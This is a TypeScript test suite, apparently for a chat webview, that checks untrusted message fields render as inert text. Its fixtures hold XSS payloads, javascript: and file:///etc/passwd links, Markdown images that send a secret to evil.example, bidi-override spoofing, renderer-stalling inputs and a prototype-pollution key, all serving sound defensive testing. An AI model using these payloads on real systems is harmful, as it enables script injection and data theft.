import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AgentEvent, InputEvent } from '../../../src/shared/model.ts';
import { log, requestsOf } from '../../support/pages/chatParts.ts';
import {
  chat,
  demoAgent,
  item,
  recommends,
  says,
  suggests,
  turn,
} from '../../support/pages/chatStates.ts';
import { interactive } from '../../support/pages/chatStatesCards.ts';
import { sharedBench } from '../../support/pages/sharedBench.ts';
import type { ChatPage } from '../../support/pages/webviewPage.ts';

const bench = sharedBench();

const html =
  '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">' +
  '<style>body { display: none }</style><svg onload="window.pwned = 1"></svg>' +
  '<form action="https://evil.example"><button formaction="https://evil.example">Go</button></form>' +
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><math><mtext><a href="javascript:1">x';

async function showText(text: string): Promise<ChatPage> {
  const opened = await bench.open({ isFresh: true });
  await opened.show(chat({ turns: [turn(1, text, { items: [says(text)] })] }));
  return opened;
}

/** Whatever could act, load or restyle, anywhere in the page's body but for the page's own script. */
const active =
  'img, style, svg:not(.icon), form, iframe, math, object, video, audio, link, meta, [href], ' +
  '[onerror], [onload], [style], script:not([nonce])';

async function assertInert({ page }: ChatPage): Promise<void> {
  assert.equal(await page.locator('body').locator(active).count(), 0);
  assert.equal(await page.evaluate('window.pwned'), undefined);
}

test('HTML in a message is shown as it was written and does nothing', async () => {
  const opened = await showText(html);
  await assertInert(opened);
  await log(opened)
    .locator('.theirs')
    .getByText('<img src=x onerror="window.pwned = 1">')
    .waitFor();
  assert.equal(await opened.page.locator('body').isVisible(), true);
});

test('HTML in every other field does nothing either', async () => {
  const opened = await bench.open({ isFresh: true });
  const events: AgentEvent[] = [
    {
      type: 'unknown',
      kind: html,
      rawText: JSON.stringify({ [html]: html }),
      line: 1,
      foreignSessionId: html,
    },
    {
      type: 'handover',
      kind: 'agentHandoverEvent',
      triggered: true,
      reason: html,
      payload: { requirements: html },
      rawText: JSON.stringify(html),
      line: 2,
      oddFields: [html],
    },
    {
      type: 'message',
      kind: 'messageEvent',
      role: 'unknown',
      roleName: html,
      text: html,
      rawText: '{}',
      line: 3,
      image: { url: html, caption: html },
      audio: { url: html },
      location: { name: html, address: html },
      createdAt: html,
    },
    interactive([
      {
        form: html,
        header: html,
        attachment: { type: html, url: html, caption: html, filename: html },
        body: html,
        footer: html,
        menuLabel: html,
        actionButton: { id: html, text: html },
        buttons: [{ id: html, text: html, description: html }],
        sections: [{ title: html, rows: [{ id: html, text: html, description: html }] }],
      },
    ]),
  ];
  const inputs: InputEvent[] = [
    { messageEvent: { role: 'ASSISTANT', content: { textContent: { text: html } } } },
    { messageEvent: { role: 'USER', content: { imageContent: { url: html, caption: html } } } },
    { messageEvent: { role: 'USER', content: { audioContent: { url: html } } } },
    { buttonResponseEvent: { id: html, title: html } },
    { listReplyEvent: { id: html, title: html, description: html } },
    { filledFormResponseEvent: { formData: { [html]: html } } },
    { storeEvent: { storeId: html, name: html, cpName: html, city: html, state: html } },
  ];
  const product = {
    title: html,
    description: html,
    currency: html,
    price: 1,
    facets: { [html]: [html] },
  };
  const failure = { kind: 'server', detail: html, retryable: true } as const;
  await opened.show(
    chat({
      agent: { name: html, businessId: html, agentId: html, baseUrl: html, clientKey: html },
      problem: failure,
      turns: [
        turn(1, html, { items: [...events.map(item), recommends([product]), suggests([html])] }),
        turn(2, html, { phase: 'failed', failure, items: [suggests([html])] }),
        turn(3, html, { inputs, sessionId: html }),
      ],
    }),
  );
  for (const fold of await opened.page.locator('summary').all()) await fold.press('Enter');
  await assertInert(opened);
});

const deadLinks = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  'command:workbench.action.quit',
  'vscode://evil.evil/run',
  'data:text/html,<script>1</script>',
  'file:///etc/passwd',
  'vbscript:1',
  '//evil.example/x',
  '/relative',
];

for (const target of deadLinks) {
  test(`a link to ${target} is text that shows its target`, async () => {
    const opened = await showText(
      `[press me](${target.replaceAll('<', '%3C').replaceAll('>', '%3E')})`,
    );
    await assertInert(opened);
    assert.equal(await log(opened).getByRole('link').count(), 0);
    await log(opened).locator('.theirs').getByText('press me').waitFor();
  });
}

test('a web link goes through the host and never navigates the page', async () => {
  const opened = await showText(
    '[press me](https://shop.example/a?b=1) and https://plain.example/x',
  );
  const before = opened.page.url();
  await log(opened).getByRole('link', { name: 'press me' }).click();
  await log(opened).getByRole('link', { name: 'https://plain.example/x' }).press('Enter');
  assert.deepEqual((await opened.posted()).slice(1), [
    { type: 'openLink', url: 'https://shop.example/a?b=1' },
    { type: 'openLink', url: 'https://plain.example/x' },
  ]);
  assert.equal(opened.page.url(), before);
  assert.equal(opened.page.context().pages().length, 1);
});

test('a lookalike host is shown in its plain spelling before it is pressed', async () => {
  const opened = await showText('[shop](https://shоp.example/)'); // a Cyrillic o
  const title = await log(opened).getByRole('link').getAttribute('title');
  assert.match(title ?? '', /^https:\/\/xn--/);
});

for (const image of [
  '![secret](https://evil.example/log?d=secret)',
  '![secret][1]\n\n[1]: https://evil.example/log?d=secret',
  '<img src="https://evil.example/log?d=secret">',
  '[![secret](https://evil.example/log?d=secret)](https://evil.example)',
]) {
  test(`Markdown never loads an image: ${image.replaceAll('\n', ' ')}`, async () => {
    const opened = await bench.open({ isFresh: true });
    const requests = requestsOf(opened);
    await opened.show(chat({ turns: [turn(1, 'Hi', { items: [says(image)] })] }));
    await assertInert(opened);
    assert.deepEqual(requests, []);
  });
}

test('characters that reorder or hide text are shown by name', async () => {
  const opened = await showText('pay to \u202Egnp.exe\u202C now\u0000\u001B[31m\u2066x');
  const text = await log(opened).locator('.theirs').innerText();
  assert.match(text, /pay to ⟨U\+202E⟩gnp\.exe⟨U\+202C⟩ now␀␛\[31m⟨U\+2066⟩x/);
});

test('a suggestion is sent as it came, though its hidden characters are shown', async () => {
  const opened = await bench.open({ isFresh: true });
  await opened.show(chat({ turns: [turn(1, 'Hi', { items: [suggests(['a\u202Eb'])] })] }));
  await opened.page.getByRole('button', { name: 'a⟨U+202E⟩b' }).click();
  assert.deepEqual((await opened.posted()).at(-1), {
    type: 'sendText',
    text: 'a\u202Eb',
    request: 1,
  });
});

for (const markup of ['whatsapp', 'plain', 'markdown'] as const) {
  test(`HTML does nothing in the markup ${markup} either`, async () => {
    const opened = await bench.open({ isFresh: true });
    const agent = { ...demoAgent, markup };
    const text = `*${html}* \`${html}\` _x_ https://evil.example/"onload="window.pwned=1`;
    await opened.show(chat({ agent, turns: [turn(1, 'Hi', { items: [says(text)] })] }));
    await assertInert(opened);
  });
}

test('text made to slow a Markdown renderer down is shown', async () => {
  const opened = await bench.open({ isFresh: true });
  const texts = ['['.repeat(20_000), '>'.repeat(20_000), '*a_'.repeat(6_000), '`'.repeat(20_000)];
  await opened.show(chat({ turns: [turn(1, 'Hi', { items: texts.map((text) => says(text)) })] }));
  assert.equal(await log(opened).locator('.theirs').count(), texts.length);
});

test('a message of a megabyte is shown in part, and in whole on request', async () => {
  const opened = await showText(`${'word '.repeat(200_000)}the end`);
  const bubble = log(opened).locator('.theirs');
  assert.ok((await bubble.innerText()).length < 30_000);
  await bubble.getByRole('button', { name: 'Show Full Message (1.0 MB)' }).click();
  await bubble.getByText('the end').waitFor();
});

test('keys that poison prototypes are plain data', async () => {
  const opened = await bench.open({ isFresh: true });
  const rawText = '{"__proto__": {"polluted": 1}, "constructor": 1}';
  await opened.show(
    chat({
      turns: [
        turn(1, 'Hi', { items: [item({ type: 'unknown', kind: '__proto__', rawText, line: 1 })] }),
      ],
    }),
  );
  await log(opened).getByText('Raw JSON').click();
  await log(opened).getByText('"polluted": 1').waitFor();
  assert.equal(await opened.page.evaluate('({}).polluted'), undefined);
});
